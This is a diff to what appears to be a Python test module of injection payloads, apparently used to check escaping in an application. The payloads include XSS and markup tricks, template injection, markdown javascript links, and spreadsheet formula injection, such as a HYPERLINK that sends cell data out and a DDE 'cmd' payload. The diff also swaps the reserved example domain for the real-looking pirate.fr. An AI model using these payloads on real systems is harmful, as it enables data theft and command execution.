@@ -28,10 +28,10 @@ ATTACKS: dict[str, str] = {
     "frame": "<iframe srcdoc='<script>parent.pwned(\"§\")</script>'></iframe>",
     "details": "<details open ontoggle=pwned('§')>",
     "style": "</style><style>body{display:none}/*§*/</style>",
-    "style sheet": "<link rel=stylesheet href=//pirate.example/§.css>",
-    "base": "<base href=//pirate.example/§/>",
-    "refresh": '<meta http-equiv=refresh content="0;url=//pirate.example/§">',
-    "form": "<form action=//pirate.example/><input autofocus onfocus=pwned('§')><button>",
+    "style sheet": "<link rel=stylesheet href=//pirate.fr/§.css>",
+    "base": "<base href=//pirate.fr/§/>",
+    "refresh": '<meta http-equiv=refresh content="0;url=//pirate.fr/§">',
+    "form": "<form action=//pirate.fr/><input autofocus onfocus=pwned('§')><button>",
     "comment": "<!-- § --> et <!--",
     "CDATA": "<![CDATA[§]]><?xml version='1.0'?><!DOCTYPE x>",
     "tag without an end": '<a title="§',
@@ -46,15 +46,15 @@ ATTACKS: dict[str, str] = {
     "template literal": "`${pwned('§')}` ${pwned()}",
     "templates": "{{ config.items() }}{% include 'secret' %}§{# x #} {{{x}}} <%= pwned %> #{x}",
     "escapes": "\\<b\\> \\*§\\* \\\\ \\n \\u003cb\\u003e \\x3cb %3Cb%3E",
-    "formula": "=HYPERLINK(\"//pirate.example/?\"&A1;\"§\")",
+    "formula": "=HYPERLINK(\"//pirate.fr/?\"&A1;\"§\")",
     "formula with a sign": "+1+cmd|' /C calc'!§",
     "calendar": "BEGIN:VEVENT SUMMARY:§;X=1,2 END:VCALENDAR",
     # Markdown
     "link": "[§](javascript:pwned())",
     "link to data": "[§](data:text/html,<script>pwned()</script>)",
-    "picture": "![§](//pirate.example/x.png \"x\" onerror=pwned())",
-    "link in angles": "<javascript:pwned('§')> <https://pirate.example/>",
-    "bare address": "https://pirate.example/§ www.pirate.example",
+    "picture": "![§](//pirate.fr/x.png \"x\" onerror=pwned())",
+    "link in angles": "<javascript:pwned('§')> <https://pirate.fr/>",
+    "bare address": "https://pirate.fr/§ www.pirate.fr",
     "reference": "[Sources]: javascript:pwned('§') \"pwned\"",
     "use of a reference": "[§][Sources] [Sources][] [Sources]",
     "footnote": "[^1]: § et [^1]",
@@ -116,7 +116,7 @@ FREE = "Un texte <libre> & « quelconque »"
 """A field that takes this takes any text."""
 
 SAMPLES: tuple[Any, ...] = (
-    "2024-03", 3, True, "29232", "200068120", "signé", "rédaction", "ars", "sante-mentale", "jeunes", "53", "978",
+    "2026-02", 3, True, "29232", "200068120", "signé", "rédaction", "autre", "sante-mentale", "jeunes", "53", "978",
 )  # fmt: skip
 """Values among which each field that is no free text finds one that it takes."""
 
@@ -180,6 +180,8 @@ class Hand:
     def _value(self, hint: Any, path: str, turn: int) -> Any:
         if isinstance(hint, type) and issubclass(hint, BaseModel):
             return self._mapping(hint, path, {}, turn)
+        if getattr(getattr(hint, "__origin__", None), "__origin__", None) is tuple:
+            hint = hint.__origin__  # a list of which more is said
         inner = [argument for argument in get_args(hint) if argument not in (type(None), Ellipsis)]
         if inner and not hasattr(hint, "__metadata__"):  # a union or a tuple
             value = self._value(inner[0], path, turn)
